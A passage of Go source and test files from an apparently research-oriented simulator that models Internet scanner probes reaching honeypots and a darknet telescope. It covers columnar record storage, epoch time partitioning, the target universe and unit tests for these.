		b.Vantage = append(grab(&a.i32s, need)[:0], b.Vantage...)
		b.Sec = append(grab(&a.i32s, need)[:0], b.Sec...)
		b.Nsec = append(grab(&a.i32s, need)[:0], b.Nsec...)
		b.ASN = append(grab(&a.i32s, need)[:0], b.ASN...)
		b.Cred = append(grab(&a.i32s, need)[:0], b.Cred...)
		b.Src = append(grab(&a.addrs, need)[:0], b.Src...)
		b.Port = append(grab(&a.ports, need)[:0], b.Port...)
		b.Transport = append(grab(&a.trs, need)[:0], b.Transport...)
		b.Pay = append(grab(&a.pays, need)[:0], b.Pay...)
		return
	}
	b.Vantage = append(make([]int32, 0, need), b.Vantage...)
	b.Sec = append(make([]int32, 0, need), b.Sec...)
	b.Nsec = append(make([]int32, 0, need), b.Nsec...)
	b.Src = append(make([]wire.Addr, 0, need), b.Src...)
	b.ASN = append(make([]int32, 0, need), b.ASN...)
	b.Port = append(make([]uint16, 0, need), b.Port...)
	b.Transport = append(make([]wire.Transport, 0, need), b.Transport...)
	b.Pay = append(make([]PayloadID, 0, need), b.Pay...)
	b.Cred = append(make([]int32, 0, need), b.Cred...)
}

// AppendRange copies records [lo, hi) of another block into b,
// rebasing credential-arena indexes — the deterministic merge step
// that reassembles per-shard blocks in canonical actor order.
func (b *RecordBlock) AppendRange(o *RecordBlock, lo, hi int, credBase int32) {
	b.Vantage = append(b.Vantage, o.Vantage[lo:hi]...)
	b.Sec = append(b.Sec, o.Sec[lo:hi]...)
	b.Nsec = append(b.Nsec, o.Nsec[lo:hi]...)
	b.Src = append(b.Src, o.Src[lo:hi]...)
	b.ASN = append(b.ASN, o.ASN[lo:hi]...)
	b.Port = append(b.Port, o.Port[lo:hi]...)
	b.Transport = append(b.Transport, o.Transport[lo:hi]...)
	b.Pay = append(b.Pay, o.Pay[lo:hi]...)
	for _, c := range o.Cred[lo:hi] {
		if c >= 0 {
			c += credBase
		}
		b.Cred = append(b.Cred, c)
	}
}

// Time reconstructs the timestamp of record i. The reconstruction is
// exact: StudyStart.Add of the stored offset reproduces the original
// time.Time bit for bit.
func (b *RecordBlock) Time(i int) time.Time {
	return StudyTime(b.Sec[i], b.Nsec[i])
}

// Hour returns the study hour of record i (see HourOf), read straight
// off the seconds column.
func (b *RecordBlock) Hour(i int) int {
	h := int(b.Sec[i]) / 3600
	if h < 0 {
		return 0
	}
	if h >= StudyHours {
		return StudyHours - 1
	}
	return h
}

// CredsAt returns the credential list of record i (nil if none).
func (b *RecordBlock) CredsAt(i int) []Credential {
	if c := b.Cred[i]; c >= 0 {
		return b.CredLists[c]
	}
	return nil
}

// Record reconstructs the row-oriented compatibility view of record i.
// vantage is the record's vantage identifier (the caller resolves the
// interned id against its universe). The returned value is
// self-contained: its Payload aliases the interner's immutable bytes
// and its Creds alias the block arena, both safe to retain and
// required to stay unmutated.
func (b *RecordBlock) Record(i int, vantage string) Record {
	return Record{
		Vantage:   vantage,
		T:         b.Time(i),
		Src:       b.Src[i],
		ASN:       int(b.ASN[i]),
		Port:      b.Port[i],
		Transport: b.Transport[i],
		Pay:       b.Pay[i],
		Payload:   PayloadBytes(b.Pay[i]),
		Creds:     b.CredsAt(i),
		Handshake: true, // honeypot collectors always complete the handshake
	}
}

// StudySeconds splits a timestamp into whole seconds since StudyStart
// plus nanoseconds — the compact on-column representation. Timestamps
// before StudyStart (not produced by any actor) clamp to zero.
func StudySeconds(t time.Time) (sec, nsec int32) {
	d := t.Sub(StudyStart)
	if d < 0 {
		return 0, 0
	}
	return int32(d / time.Second), int32(d % time.Second)
}

// StudyTime is the inverse of StudySeconds.
func StudyTime(sec, nsec int32) time.Time {
	return StudyStart.Add(time.Duration(sec)*time.Second + time.Duration(nsec))
}
