package netsim

import (
	"time"

	"cloudwatch/internal/wire"
)

// RecordBlock is the struct-of-arrays storage of collected honeypot
// records: one scalar column per Record field, with the heavyweight
// fields compressed — vantage strings become interned vantage ids
// (Universe target positions), timestamps become int32 study-seconds
// plus int32 nanos, payloads become interned PayloadIDs, and
// credential lists live in a per-block arena referenced by index. A
// record costs ~40 pointer-free bytes instead of a ~120-byte struct
// holding strings and slices, which removes the record storage from
// the garbage collector's scan set almost entirely.
//
// Blocks are append-only and not safe for concurrent mutation; the
// pipeline gives each worker shard a private block and merges them
// with AppendRange. Record(i) reconstructs the row-oriented
// compatibility view (see Record).
type RecordBlock struct {
	Vantage   []int32 // interned vantage id (Universe target position)
	Sec       []int32 // whole seconds since StudyStart
	Nsec      []int32 // nanoseconds within the second
	Src       []wire.Addr
	ASN       []int32
	Port      []uint16
	Transport []wire.Transport
	Pay       []PayloadID
	Cred      []int32 // index into CredLists; -1 = no credentials

	// CredLists is the credential-list arena. Entries are shared with
	// the probes that carried them; treat as read-only.
	CredLists [][]Credential
}

// Len returns the number of records stored.
func (b *RecordBlock) Len() int { return len(b.Sec) }

// Append stores one observed probe: the probe's routing fields, the
// collector-decided payload id and credential list. Columns grow in
// lockstep (one coordinated doubling instead of nine staggered
// reallocations), so the hot path is a capacity check plus scalar
// stores.
func (b *RecordBlock) Append(vantage int32, p *Probe, pay PayloadID, creds []Credential) {
	sec, nsec := StudySeconds(p.T)
	b.AppendAt(vantage, sec, nsec, p, pay, creds)
}

// AppendAt is Append with the timestamp already split into study
// seconds — the epoch-routing dispatch computes the split to pick a
// sink and passes it through instead of re-deriving it here.
func (b *RecordBlock) AppendAt(vantage, sec, nsec int32, p *Probe, pay PayloadID, creds []Credential) {
	i := len(b.Sec)
	if i == cap(b.Sec) {
		// 4× growth, not 2×: blocks are pointer-free scalar columns, so
		// over-allocation costs idle bytes rather than GC scan work,
		// while each saved doubling round saves a nine-column copy of
		// the whole block.
		grow := 4 * i
		if grow < 4096 {
			grow = 4096
		}
		b.ensureCap(grow)
	}
	b.Vantage = b.Vantage[:i+1]
	b.Vantage[i] = vantage
	b.Sec = b.Sec[:i+1]
	b.Sec[i] = sec
	b.Nsec = b.Nsec[:i+1]
	b.Nsec[i] = nsec
	b.Src = b.Src[:i+1]
	b.Src[i] = p.Src
	b.ASN = b.ASN[:i+1]
	b.ASN[i] = int32(p.ASN)
	b.Port = b.Port[:i+1]
	b.Port[i] = p.Port
	b.Transport = b.Transport[:i+1]
	b.Transport[i] = p.Transport
	b.Pay = b.Pay[:i+1]
	b.Pay[i] = pay
	cred := int32(-1)
	if len(creds) > 0 {
		cred = int32(len(b.CredLists))
		b.CredLists = append(b.CredLists, creds)
	}
	b.Cred = b.Cred[:i+1]
	b.Cred[i] = cred
}

// Grow preallocates capacity for n additional records in every scalar
// column.
func (b *RecordBlock) Grow(n int) {
	b.ensureCap(b.Len() + n)
}

// ensureCap reallocates every scalar column to capacity need (no-op
// when already large enough), keeping the columns' capacities in
// lockstep.
func (b *RecordBlock) ensureCap(need int) {
	if cap(b.Sec) >= need {
		return
	}
	b.Vantage = append(make([]int32, 0, need), b.Vantage...)
	b.Sec = append(make([]int32, 0, need), b.Sec...)
	b.Nsec = append(make([]int32, 0, need), b.Nsec...)
	b.Src = append(make([]wire.Addr, 0, need), b.Src...)
	b.ASN = append(make([]int32, 0, need), b.ASN...)
	b.Port = append(make([]uint16, 0, need), b.Port...)
	b.Transport = append(make([]wire.Transport, 0, need), b.Transport...)
	b.Pay = append(make([]PayloadID, 0, need), b.Pay...)
	b.Cred = append(make([]int32, 0, need), b.Cred...)
}

// AppendRange copies records [lo, hi) of another block into b,
// rebasing credential-arena indexes — the deterministic merge step
// that reassembles per-shard blocks in canonical actor order.
func (b *RecordBlock) AppendRange(o *RecordBlock, lo, hi int, credBase int32) {
	b.Vantage = append(b.Vantage, o.Vantage[lo:hi]...)
	b.Sec = append(b.Sec, o.Sec[lo:hi]...)
	b.Nsec = append(b.Nsec, o.Nsec[lo:hi]...)
	b.Src = append(b.Src, o.Src[lo:hi]...)
	b.ASN = append(b.ASN, o.ASN[lo:hi]...)
	b.Port = append(b.Port, o.Port[lo:hi]...)
	b.Transport = append(b.Transport, o.Transport[lo:hi]...)
	b.Pay = append(b.Pay, o.Pay[lo:hi]...)
	for _, c := range o.Cred[lo:hi] {
		if c >= 0 {
			c += credBase
		}
		b.Cred = append(b.Cred, c)
	}
}

// Time reconstructs the timestamp of record i. The reconstruction is
// exact: StudyStart.Add of the stored offset reproduces the original
// time.Time bit for bit.
func (b *RecordBlock) Time(i int) time.Time {
	return StudyTime(b.Sec[i], b.Nsec[i])
}

// Hour returns the study hour of record i (see HourOf), read straight
// off the seconds column.
func (b *RecordBlock) Hour(i int) int {
	h := int(b.Sec[i]) / 3600
	if h < 0 {
		return 0
	}
	if h >= StudyHours {
		return StudyHours - 1
	}
	return h
}

// CredsAt returns the credential list of record i (nil if none).
func (b *RecordBlock) CredsAt(i int) []Credential {
	if c := b.Cred[i]; c >= 0 {
		return b.CredLists[c]
	}
	return nil
}

// Record reconstructs the row-oriented compatibility view of record i.
// vantage is the record's vantage identifier (the caller resolves the
// interned id against its universe). The returned value is
// self-contained: its Payload aliases the interner's immutable bytes
// and its Creds alias the block arena, both safe to retain and
// required to stay unmutated.
func (b *RecordBlock) Record(i int, vantage string) Record {
	return Record{
		Vantage:   vantage,
		T:         b.Time(i),
		Src:       b.Src[i],
		ASN:       int(b.ASN[i]),
		Port:      b.Port[i],
		Transport: b.Transport[i],
		Pay:       b.Pay[i],
		Payload:   PayloadBytes(b.Pay[i]),
		Creds:     b.CredsAt(i),
		Handshake: true, // honeypot collectors always complete the handshake
	}
}

// StudySeconds splits a timestamp into whole seconds since StudyStart
// plus nanoseconds — the compact on-column representation. Timestamps
// before StudyStart (not produced by any actor) clamp to zero.
func StudySeconds(t time.Time) (sec, nsec int32) {
	d := t.Sub(StudyStart)
	if d < 0 {
		return 0, 0
	}
	return int32(d / time.Second), int32(d % time.Second)
}

// StudyTime is the inverse of StudySeconds.
func StudyTime(sec, nsec int32) time.Time {
	return StudyStart.Add(time.Duration(sec)*time.Second + time.Duration(nsec))
}
