package netsim

import "testing"

// appendN appends n records with a recognizable per-record pattern
// (Port carries the global sequence number) and returns the next
// sequence value.
func appendN(b *RecordBlock, seq, n int) int {
	for i := 0; i < n; i++ {
		p := Probe{Port: uint16(seq), ASN: seq}
		b.AppendAt(0, int32(seq), int32(seq%1000), &p, 0, nil)
		seq++
	}
	return seq
}

// checkPattern verifies every record of the block still carries the
// pattern appendN wrote, i.e. no growth round lost or shifted data.
func checkPattern(t *testing.T, b *RecordBlock) {
	t.Helper()
	for i := 0; i < b.Len(); i++ {
		if b.Port[i] != uint16(i) || b.ASN[i] != int32(i) || b.Sec[i] != int32(i) || b.Nsec[i] != int32(i%1000) {
			t.Fatalf("record %d corrupted after growth: port=%d asn=%d sec=%d nsec=%d",
				i, b.Port[i], b.ASN[i], b.Sec[i], b.Nsec[i])
		}
		if b.Cred[i] != -1 {
			t.Fatalf("record %d has credential index %d, want -1", i, b.Cred[i])
		}
	}
}

// TestAppendAtCapacityBoundary pins the growth trigger: appends up to
// exactly the preallocated capacity must not reallocate, and the very
// next append grows every column in lockstep without disturbing the
// stored records.
func TestAppendAtCapacityBoundary(t *testing.T) {
	var b RecordBlock
	b.Grow(100)
	c := cap(b.Sec)
	if c < 100 {
		t.Fatalf("Grow(100) left capacity %d", c)
	}
	seq := appendN(&b, 0, c)
	if cap(b.Sec) != c {
		t.Fatalf("filling to capacity reallocated: cap %d -> %d", c, cap(b.Sec))
	}
	if b.Len() != c {
		t.Fatalf("Len = %d, want %d", b.Len(), c)
	}
	appendN(&b, seq, 1) // the boundary append: must grow, not overflow
	if b.Len() != c+1 {
		t.Fatalf("Len after boundary append = %d, want %d", b.Len(), c+1)
	}
	if cap(b.Sec) <= c {
		t.Fatalf("boundary append did not grow capacity (%d)", cap(b.Sec))
	}
	// Columns grow in lockstep: one coordinated reallocation.
	if cap(b.Vantage) != cap(b.Sec) || cap(b.Port) != cap(b.Sec) ||
		cap(b.Src) != cap(b.Sec) || cap(b.Pay) != cap(b.Sec) ||
		cap(b.Transport) != cap(b.Sec) || cap(b.Cred) != cap(b.Sec) ||
		cap(b.Nsec) != cap(b.Sec) || cap(b.ASN) != cap(b.Sec) {
		t.Fatal("column capacities diverged after growth")
	}
	checkPattern(t, &b)
}

// TestEnsureCapArenaMode pins the arena-backed growth path: columns
// carved out of a shared arena preserve existing contents, are
// capacity-clipped so appends through a published view can never spill
// into a neighbor's records, and two blocks sharing one arena stay
// disjoint through interleaved growth.
func TestEnsureCapArenaMode(t *testing.T) {
	arena := NewColumnArena(64)
	var a, b RecordBlock
	a.UseArena(arena)
	b.UseArena(arena)

	// Interleave appends so both blocks grow out of the shared slabs
	// several times (4096-record floor per growth, so force that).
	sa := appendN(&a, 0, 10)
	sb := appendN(&b, 0, 10)
	sa = appendN(&a, sa, 5000)
	sb = appendN(&b, sb, 5000)
	appendN(&a, sa, 12000)
	appendN(&b, sb, 12000)
	checkPattern(t, &a)
	checkPattern(t, &b)

	// Slices handed out by the arena are capacity-clipped: an append
	// through one allocates instead of writing into the neighboring
	// carve — the rule that lets sealed blocks publish their columns.
	col := grab(&arena.i32s, 8)
	if len(col) != 8 || cap(col) != 8 {
		t.Fatalf("grab returned len %d cap %d, want clipped 8/8", len(col), cap(col))
	}

	// A request larger than the chunk floor gets its own exact chunk.
	var big RecordBlock
	big.UseArena(arena)
	big.Grow(3 * arenaChunk)
	if cap(big.Sec) < 3*arenaChunk {
		t.Fatalf("oversized arena growth capped at %d", cap(big.Sec))
	}
}

// TestEpochOfBoundaryRouting pins which side of an epoch boundary a
// probe timestamped exactly on it lands: epoch i covers study-seconds
// [Bound(i), Bound(i+1)), so the boundary second opens epoch i and the
// nanoseconds just before it still belong to epoch i-1 — for even and
// uneven splits alike.
func TestEpochOfBoundaryRouting(t *testing.T) {
	for _, n := range []int{2, 7, 8, 13} {
		eb := NewEpochs(n)
		for i := 1; i < n; i++ {
			bound := eb.Bound(i)
			// A probe stamped exactly at the boundary instant.
			at := Probe{T: StudyTime(bound, 0)}
			sec, nsec := StudySeconds(at.T)
			if sec != bound || nsec != 0 {
				t.Fatalf("n=%d: StudySeconds round-trip moved the boundary: (%d, %d)", n, sec, nsec)
			}
			if got := eb.EpochOf(sec); got != i {
				t.Fatalf("n=%d: probe on boundary %d routed to epoch %d, want %d", n, i, got, i)
			}
			// One nanosecond earlier still routes to the epoch before.
			before := Probe{T: StudyTime(bound, 0).Add(-1)}
			sec, nsec = StudySeconds(before.T)
			if sec != bound-1 || nsec != 999999999 {
				t.Fatalf("n=%d: nanosecond-before split = (%d, %d)", n, sec, nsec)
			}
			if got := eb.EpochOf(sec); got != i-1 {
				t.Fatalf("n=%d: probe 1ns before boundary %d routed to epoch %d, want %d", n, i, got, i-1)
			}
		}
	}
}
