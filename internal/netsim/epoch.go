package netsim

import "time"

// Epochs partitions the study week into n contiguous time windows with
// whole-second boundaries — the time axis of the streaming study
// engine. Epoch i covers study-seconds [Bound(i), Bound(i+1)); the
// final epoch additionally absorbs any probe whose timestamp lands at
// or beyond the end of the week (burst windows may spill a few seconds
// past it), so every probe belongs to exactly one epoch.
//
// The boundaries are pure integer arithmetic over the epoch count, so
// a streaming ingest and a batch run truncated at Bound(i) agree on
// exactly which probes fall inside the first i epochs.
type Epochs struct {
	bounds []int32 // len n+1, ascending, bounds[0] = 0
	// rcp ≈ 2³²/width of the first epoch: EpochOf estimates the epoch
	// by multiply-shift instead of dividing per probe, and its fixup
	// loops absorb the (at most ±1) estimation error exactly as they
	// absorb the boundary rounding drift.
	rcp uint64
}

// NewEpochs splits the study week into n equal-length epochs (the last
// absorbs the rounding remainder). n < 1 is treated as 1; n larger
// than the week's seconds clamps to one-second epochs, keeping the
// bounds strictly ascending (EpochOf divides by the first width).
func NewEpochs(n int) Epochs {
	if n < 1 {
		n = 1
	}
	total := int32(StudyHours) * 3600
	if n > int(total) {
		n = int(total)
	}
	bounds := make([]int32, n+1)
	for i := 0; i <= n; i++ {
		bounds[i] = int32(int64(total) * int64(i) / int64(n))
	}
	return Epochs{bounds: bounds, rcp: (1<<32)/uint64(bounds[1]) + 1}
}

// NumEpochs returns the number of epochs.
func (e Epochs) NumEpochs() int { return len(e.bounds) - 1 }

// Bound returns the start study-second of epoch i; Bound(NumEpochs())
// is the end of the week.
func (e Epochs) Bound(i int) int32 { return e.bounds[i] }

// EpochOf returns the epoch containing a study-second. Seconds past
// the end of the week clamp into the final epoch (StudySeconds already
// clamps negatives to zero).
func (e Epochs) EpochOf(sec int32) int {
	n := e.NumEpochs()
	// Near-equal epoch lengths make the multiply-shift estimate (a
	// division-free sec / firstWidth) a guess within a step or two of
	// the true epoch; the fixup loops absorb both the estimation error
	// and the ±1s rounding drift of the integer boundaries.
	i := int(uint64(uint32(sec)) * e.rcp >> 32)
	if i > n-1 {
		i = n - 1
	}
	for i > 0 && sec < e.bounds[i] {
		i--
	}
	for i < n-1 && sec >= e.bounds[i+1] {
		i++
	}
	return i
}

// Window returns the wall-clock span of epoch i.
func (e Epochs) Window(i int) (start, end time.Time) {
	return StudyTime(e.bounds[i], 0), StudyTime(e.bounds[i+1], 0)
}
