package netsim

import (
	"math"
	"testing"
	"testing/quick"
	"time"

	"cloudwatch/internal/wire"
)

func TestStreamDeterministic(t *testing.T) {
	a := Stream(42, "mirai")
	b := Stream(42, "mirai")
	for i := 0; i < 100; i++ {
		if a.Uint64() != b.Uint64() {
			t.Fatal("same seed+name must yield identical streams")
		}
	}
}

func TestStreamIndependentNames(t *testing.T) {
	a := Stream(42, "mirai")
	b := Stream(42, "tsunami")
	same := 0
	for i := 0; i < 100; i++ {
		if a.Uint64() == b.Uint64() {
			same++
		}
	}
	if same > 0 {
		t.Errorf("different names should decorrelate: %d identical draws", same)
	}
}

func TestStreamSeedSensitivity(t *testing.T) {
	if Stream(1, "x").Uint64() == Stream(2, "x").Uint64() {
		t.Error("different seeds should differ")
	}
}

func TestPoissonMean(t *testing.T) {
	rng := Stream(7, "poisson")
	for _, lambda := range []float64{0.5, 3, 12, 80} {
		n := 20000
		sum := 0
		for i := 0; i < n; i++ {
			sum += Poisson(rng, lambda)
		}
		mean := float64(sum) / float64(n)
		if math.Abs(mean-lambda) > lambda*0.1+0.1 {
			t.Errorf("Poisson(%v) sample mean = %v", lambda, mean)
		}
	}
	if Poisson(rng, 0) != 0 || Poisson(rng, -1) != 0 {
		t.Error("nonpositive lambda should give 0")
	}
}

func TestPickWeighted(t *testing.T) {
	rng := Stream(9, "weights")
	counts := make([]int, 3)
	for i := 0; i < 30000; i++ {
		counts[PickWeighted(rng, []float64{1, 0, 9})]++
	}
	if counts[1] != 0 {
		t.Errorf("zero-weight index picked %d times", counts[1])
	}
	ratio := float64(counts[2]) / float64(counts[0])
	if ratio < 7 || ratio > 11 {
		t.Errorf("9:1 weights gave ratio %v", ratio)
	}
	// Degenerate all-zero weights fall back to uniform.
	idx := PickWeighted(rng, []float64{0, 0})
	if idx != 0 && idx != 1 {
		t.Errorf("uniform fallback picked %d", idx)
	}
}

func TestPickWeightedInRangeProperty(t *testing.T) {
	rng := Stream(1, "prop")
	f := func(raw []float64) bool {
		if len(raw) == 0 {
			return true
		}
		idx := PickWeighted(rng, raw)
		return idx >= 0 && idx < len(raw)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestASRegistry(t *testing.T) {
	a, ok := LookupAS(4134)
	if !ok || a.Name != "Chinanet" {
		t.Errorf("LookupAS(4134) = %+v, %v", a, ok)
	}
	if _, ok := LookupAS(99999999); ok {
		t.Error("unknown ASN should not resolve")
	}
	if a.Key() != "AS4134 Chinanet" {
		t.Errorf("Key = %q", a.Key())
	}
	if len(AllAS()) < 40 {
		t.Errorf("registry has %d ASes, want >= 40", len(AllAS()))
	}
	// ASNs must be unique.
	seen := map[int]bool{}
	for _, a := range AllAS() {
		if seen[a.ASN] {
			t.Errorf("duplicate ASN %d", a.ASN)
		}
		seen[a.ASN] = true
	}
}

func TestMustASPanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("MustAS on unknown ASN should panic")
		}
	}()
	MustAS(424242)
}

func mkTarget(id string, ip string, region string, kind NetworkKind) *Target {
	return &Target{
		ID:     id,
		IP:     wire.MustParseAddr(ip),
		Kind:   kind,
		Region: region,
		Ports:  []uint16{22, 80},
	}
}

func TestUniverseBasics(t *testing.T) {
	targets := []*Target{
		mkTarget("a:1", "10.0.0.1", "a", KindCloud),
		mkTarget("a:2", "10.0.0.2", "a", KindCloud),
		mkTarget("edu:1", "10.1.0.1", "edu", KindEducation),
		mkTarget("tel:1", "10.2.0.1", "tel", KindTelescope),
	}
	u, err := NewUniverse(1, 2021, targets)
	if err != nil {
		t.Fatal(err)
	}
	if got, ok := u.ByIP(wire.MustParseAddr("10.0.0.2")); !ok || got.ID != "a:2" {
		t.Errorf("ByIP = %+v, %v", got, ok)
	}
	if got, ok := u.ByID("edu:1"); !ok || got.Kind != KindEducation {
		t.Errorf("ByID = %+v, %v", got, ok)
	}
	if len(u.Region("a")) != 2 {
		t.Errorf("region a has %d targets", len(u.Region("a")))
	}
	if got := u.Regions(); len(got) != 3 || got[0] != "a" {
		t.Errorf("Regions = %v", got)
	}
	if len(u.ServiceTargets()) != 3 {
		t.Errorf("ServiceTargets = %d, want 3", len(u.ServiceTargets()))
	}
}

func TestUniverseTelescopeBlocks(t *testing.T) {
	u, err := NewUniverse(1, 2021, nil)
	if err != nil {
		t.Fatal(err)
	}
	u.TelescopeBlocks = []wire.Block{
		wire.MustParseBlock("100.64.0.0/24"),
		wire.MustParseBlock("100.64.1.0/24"),
	}
	if got := u.TelescopeSize(); got != 512 {
		t.Errorf("TelescopeSize = %d, want 512", got)
	}
	if !u.InTelescope(wire.MustParseAddr("100.64.1.77")) {
		t.Error("address in second block should be in telescope")
	}
	if u.InTelescope(wire.MustParseAddr("100.64.2.1")) {
		t.Error("address outside blocks should not be in telescope")
	}
	if got := u.TelescopeAddr(0); got != wire.MustParseAddr("100.64.0.0") {
		t.Errorf("TelescopeAddr(0) = %v", got)
	}
	if got := u.TelescopeAddr(256); got != wire.MustParseAddr("100.64.1.0") {
		t.Errorf("TelescopeAddr(256) = %v", got)
	}
	if got := u.TelescopeAddr(511); got != wire.MustParseAddr("100.64.1.255") {
		t.Errorf("TelescopeAddr(511) = %v", got)
	}
	defer func() {
		if recover() == nil {
			t.Error("TelescopeAddr out of range should panic")
		}
	}()
	u.TelescopeAddr(512)
}

func TestUniverseRejectsDuplicates(t *testing.T) {
	dupIP := []*Target{
		mkTarget("x:1", "10.0.0.1", "x", KindCloud),
		mkTarget("x:2", "10.0.0.1", "x", KindCloud),
	}
	if _, err := NewUniverse(1, 2021, dupIP); err == nil {
		t.Error("duplicate IP should be rejected")
	}
	dupID := []*Target{
		mkTarget("x:1", "10.0.0.1", "x", KindCloud),
		mkTarget("x:1", "10.0.0.2", "x", KindCloud),
	}
	if _, err := NewUniverse(1, 2021, dupID); err == nil {
		t.Error("duplicate ID should be rejected")
	}
	noID := []*Target{mkTarget("", "10.0.0.1", "x", KindCloud)}
	if _, err := NewUniverse(1, 2021, noID); err == nil {
		t.Error("empty ID should be rejected")
	}
}

func TestTargetListensOn(t *testing.T) {
	tgt := mkTarget("a:1", "10.0.0.1", "a", KindCloud)
	if !tgt.ListensOn(22) || tgt.ListensOn(443) {
		t.Error("explicit port list broken")
	}
	tel := mkTarget("tel:1", "10.2.0.1", "tel", KindTelescope)
	tel.Ports = nil
	if !tel.ListensOn(17128) {
		t.Error("telescope should listen on all ports")
	}
}

func TestGeoLabel(t *testing.T) {
	if (Geo{Country: "US", Sub: "CA"}).Label() != "US-CA" {
		t.Error("US sub label")
	}
	if (Geo{Country: "SG"}).Label() != "SG" {
		t.Error("country-only label")
	}
}

func TestHourOf(t *testing.T) {
	if HourOf(StudyStart) != 0 {
		t.Error("start hour")
	}
	if HourOf(StudyStart.Add(3*time.Hour+30*time.Minute)) != 3 {
		t.Error("mid-study hour")
	}
	if HourOf(StudyStart.Add(-time.Hour)) != 0 {
		t.Error("before-start clamp")
	}
	if HourOf(StudyStart.Add(10*24*time.Hour)) != StudyHours-1 {
		t.Error("after-end clamp")
	}
}

func TestKindStrings(t *testing.T) {
	if KindCloud.String() != "cloud" || KindEducation.String() != "education" || KindTelescope.String() != "telescope" {
		t.Error("NetworkKind strings")
	}
	if NetworkKind(9).String() != "unknown" {
		t.Error("unknown kind")
	}
	if CollectGreyNoise.String() != "greynoise" || CollectHoneytrap.String() != "honeytrap" || CollectTelescope.String() != "telescope" {
		t.Error("CollectorKind strings")
	}
	if CollectorKind(9).String() != "unknown" {
		t.Error("unknown collector")
	}
}

// TestUniverseTelescopeIndexUnsortedBlocks drives the binary-search
// telescope index with blocks declared out of address order: lookups
// must agree with a straight linear scan and TelescopeIndex must
// invert TelescopeAddr over the whole space.
func TestUniverseTelescopeIndexUnsortedBlocks(t *testing.T) {
	u, err := NewUniverse(1, 2021, nil)
	if err != nil {
		t.Fatal(err)
	}
	u.TelescopeBlocks = []wire.Block{
		wire.MustParseBlock("198.51.100.0/24"),
		wire.MustParseBlock("100.64.0.0/23"),
		wire.MustParseBlock("192.0.2.0/25"),
	}
	size := 0
	for _, b := range u.TelescopeBlocks {
		size += b.Size()
	}
	if got := u.TelescopeSize(); got != size {
		t.Fatalf("TelescopeSize = %d, want %d", got, size)
	}
	for i := 0; i < size; i++ {
		addr := u.TelescopeAddr(i)
		// Linear-scan reference for the block-order address mapping.
		j, want := i, wire.Addr(0)
		for _, b := range u.TelescopeBlocks {
			if j < b.Size() {
				want = b.Nth(j)
				break
			}
			j -= b.Size()
		}
		if addr != want {
			t.Fatalf("TelescopeAddr(%d) = %v, want %v", i, addr, want)
		}
		if !u.InTelescope(addr) {
			t.Fatalf("telescope address %v not reported in telescope", addr)
		}
		back, ok := u.TelescopeIndex(addr)
		if !ok || back != i {
			t.Fatalf("TelescopeIndex(%v) = %d,%v, want %d,true", addr, back, ok, i)
		}
	}
	for _, outside := range []string{"100.64.2.0", "192.0.2.128", "198.51.101.0", "0.0.0.0", "255.255.255.255"} {
		a := wire.MustParseAddr(outside)
		if u.InTelescope(a) {
			t.Errorf("InTelescope(%s) = true, want false", outside)
		}
		if _, ok := u.TelescopeIndex(a); ok {
			t.Errorf("TelescopeIndex(%s) resolved an outside address", outside)
		}
	}
}
