package netsim

import (
	"fmt"
	"sort"

	"cloudwatch/internal/wire"
)

// Universe is the set of monitored addresses an actor population
// scans: every honeypot IP (materialized as a Target) plus the
// telescope address blocks (kept as ranges — the paper's telescope
// spans 475K IPs, far too many to materialize per-address state for).
// It is the simulated stand-in for "the parts of the Internet our
// sensors can see".
type Universe struct {
	Seed int64
	Year int // dataset year (2020, 2021, 2022) for Appendix C variants

	// TelescopeBlocks are the darknet ranges; traffic to them reaches
	// the telescope collector, which records first packets only.
	TelescopeBlocks []wire.Block

	targets []*Target
	byIP    map[wire.Addr]*Target
	byID    map[string]*Target
	regions map[string][]*Target
}

// NewUniverse builds a universe over the given honeypot targets.
// Target IPs and IDs must be unique.
func NewUniverse(seed int64, year int, targets []*Target) (*Universe, error) {
	u := &Universe{
		Seed:    seed,
		Year:    year,
		byIP:    make(map[wire.Addr]*Target, len(targets)),
		byID:    make(map[string]*Target, len(targets)),
		regions: map[string][]*Target{},
	}
	for _, t := range targets {
		if t.ID == "" {
			return nil, fmt.Errorf("netsim: target %s has empty ID", t.IP)
		}
		if _, dup := u.byIP[t.IP]; dup {
			return nil, fmt.Errorf("netsim: duplicate target IP %s", t.IP)
		}
		if _, dup := u.byID[t.ID]; dup {
			return nil, fmt.Errorf("netsim: duplicate target ID %s", t.ID)
		}
		u.byIP[t.IP] = t
		u.byID[t.ID] = t
		u.targets = append(u.targets, t)
		u.regions[t.Region] = append(u.regions[t.Region], t)
	}
	return u, nil
}

// Targets returns every target in insertion order. The slice is
// shared; callers must not mutate it.
func (u *Universe) Targets() []*Target { return u.targets }

// ByIP resolves the target monitoring an address.
func (u *Universe) ByIP(ip wire.Addr) (*Target, bool) {
	t, ok := u.byIP[ip]
	return t, ok
}

// ByID resolves a target by vantage identifier.
func (u *Universe) ByID(id string) (*Target, bool) {
	t, ok := u.byID[id]
	return t, ok
}

// Region returns the targets of one region key.
func (u *Universe) Region(key string) []*Target { return u.regions[key] }

// Regions returns all region keys in sorted order.
func (u *Universe) Regions() []string {
	keys := make([]string, 0, len(u.regions))
	for k := range u.regions {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// Filter returns targets satisfying pred, in insertion order.
func (u *Universe) Filter(pred func(*Target) bool) []*Target {
	var out []*Target
	for _, t := range u.targets {
		if pred(t) {
			out = append(out, t)
		}
	}
	return out
}

// ServiceTargets returns targets on networks that host real services
// (cloud + education) — the set telescope-avoiding scanners restrict
// themselves to (§5.2).
func (u *Universe) ServiceTargets() []*Target {
	return u.Filter(func(t *Target) bool { return t.Kind != KindTelescope })
}

// InTelescope reports whether an address lies inside a telescope
// block.
func (u *Universe) InTelescope(ip wire.Addr) bool {
	for _, b := range u.TelescopeBlocks {
		if b.Contains(ip) {
			return true
		}
	}
	return false
}

// TelescopeSize returns the total number of telescope addresses.
func (u *Universe) TelescopeSize() int {
	n := 0
	for _, b := range u.TelescopeBlocks {
		n += b.Size()
	}
	return n
}

// TelescopeAddr maps a global index in [0, TelescopeSize()) to the
// corresponding telescope address, block by block. It panics when i is
// out of range, mirroring slice indexing.
func (u *Universe) TelescopeAddr(i int) wire.Addr {
	for _, b := range u.TelescopeBlocks {
		if i < b.Size() {
			return b.Nth(i)
		}
		i -= b.Size()
	}
	panic(fmt.Sprintf("netsim: telescope index %d out of range", i))
}
