package netsim

import (
	"fmt"
	"sort"
	"sync"

